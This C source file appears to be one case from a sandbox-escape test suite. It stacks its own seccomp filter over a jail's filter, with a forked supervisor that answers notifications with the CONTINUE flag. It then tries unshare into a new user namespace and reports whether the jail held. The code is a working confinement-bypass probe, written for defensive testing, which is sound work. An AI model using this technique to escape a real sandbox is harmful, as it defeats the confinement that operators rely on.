// title: puts a filter of its own over the jail's, whose supervisor lets refused calls go on
// source: seccomp_unotify(2) and its warning on SECCOMP_USER_NOTIF_FLAG_CONTINUE
// twin: yes
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>

#include "attack.h"

static void supervise(int listener) {
    struct seccomp_notif asked = {0};
    struct seccomp_notif_resp answer = {0};
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked) == -1) _exit(1);
    answer.id = asked.id;
    answer.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
    _exit(0);
}

ATTACK(own_filter_answers) {
    struct sock_filter words[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog filter = {.len = 4, .filter = words};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    long listener = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &filter);
    if (listener == -1) {
        held("seccomp: %s", strerror(errno));
        return;
    }
    pid_t child = fork();
    if (child == 0) supervise(listener);
    close(listener);
    told(syscall(SYS_unshare, 0x10000000L /* CLONE_NEWUSER */), "unshare under its own filter");
    kill(child, SIGKILL);
}
